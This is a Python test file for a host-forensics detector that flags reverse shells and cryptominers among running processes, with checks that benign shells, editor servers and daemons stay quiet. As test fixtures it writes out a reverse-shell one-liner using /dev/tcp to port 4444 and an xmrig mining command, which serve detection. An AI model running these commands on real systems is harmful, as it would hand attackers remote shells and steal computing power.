# SPDX-License-Identifier: Apache-2.0
"""A shell on somebody's connection and a miner at work are told; ordinary shells, tunnels of editors and sessions are not."""

from __future__ import annotations

from memory_events import MemoryEvents

from headwater.detect import registry
from headwater.detect.detectors import running_process
from headwater.model.kinds import EventKind as K
from headwater.model.kinds import Severity
from headwater.model.nouns import Finding
from headwater.model.ports import Settings

WHEN = "2026-03-02 03:04:05"


class Live(MemoryEvents):
    """A running system in few words."""

    def runs(self, pid: int, line: str, exe: str = "/usr/bin/bash", ends: dict[int, str] | None = None) -> Live:
        self.say("live.ps", "live/ps.txt", (K.STATE_PROCESS, None, {"pid": pid, "user": "root", "command_line": line}))
        own = {"fields": {"fact": "cmdline"}}
        self.say(
            "live.proc_pid", f"proc/{pid}/cmdline", (K.STATE_PROCESS, None, {"pid": pid, "command_line": line, **own})
        )
        for name, target in {"exe": exe, **{f"fd/{n}": t for n, t in (ends or {}).items()}}.items():
            link = {"file_path": f"/proc/{pid}/{name}", "fields": {"target": target}}
            self.say("fs.macb", "proc", (K.FILE_CHANGED, WHEN, link))
        return self

    def connected(self, inode: int, address: str | None) -> Live:
        own = {"dst_ip": address, "fields": {"inode": inode, "state": "ESTABLISHED", "remote_port": 4444}}
        self.say("live.proc_net", "proc/net/tcp", (K.STATE_SOCKET, None, own))
        return self

    def found(self) -> list[Finding]:
        return list(registry.run(running_process, self, Settings()))


def test_a_shell_on_a_connection_names_the_other_end() -> None:
    live = Live().runs(77, "bash -i", ends={0: "socket:[9001]", 1: "socket:[9001]", 2: "socket:[9001]"})
    (found,) = live.connected(9001, "203.0.113.66").found()
    assert (found.severity, found.facts["address"], found.facts["pid"]) == (Severity.HIGH, "203.0.113.66", 77)
    assert len(found.spans) == 5  # three ends, the program, the socket


def test_a_miner_and_a_written_out_reverse_shell_are_told_once_though_two_views_show_them() -> None:
    live = Live().runs(8, "/usr/local/bin/xmrig -o stratum+tcp://pool.example:3333", "/usr/local/bin/xmrig")
    live.runs(9, "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")
    found = live.found()
    assert {f.facts["traits"] for f in found} == {"miner", "reverse-shell"}
    assert all(f.facts["commands"] == 1 for f in found)
    assert all(f.severity in (Severity.MEDIUM, Severity.HIGH) for f in found)


def test_ordinary_processes_give_nothing() -> None:
    live = (
        Live()
        .runs(1, "/sbin/init", "/usr/lib/systemd/systemd")
        .runs(30, "-bash", ends={0: "/dev/pts/0", 1: "/dev/pts/0"})
        .runs(31, "bash -s", ends={0: "socket:[700]", 1: "socket:[701]"})  # sshd's own pair of local sockets
        .runs(32, "/home/dev/.vscode-server/bin/node server.js", "/home/dev/.vscode-server/bin/node")
        .runs(33, "nginx: worker process", "/usr/sbin/nginx", {3: "socket:[800]"})
        .runs(34, "sh /usr/lib/apt/apt.systemd.daily install", "/usr/bin/dash", {0: "/dev/null", 1: "socket:[900]"})
        .connected(800, "203.0.113.9")
    )
    assert not live.found()
    assert not MemoryEvents().feeds()
    assert not list(registry.run(running_process, MemoryEvents(), Settings()))
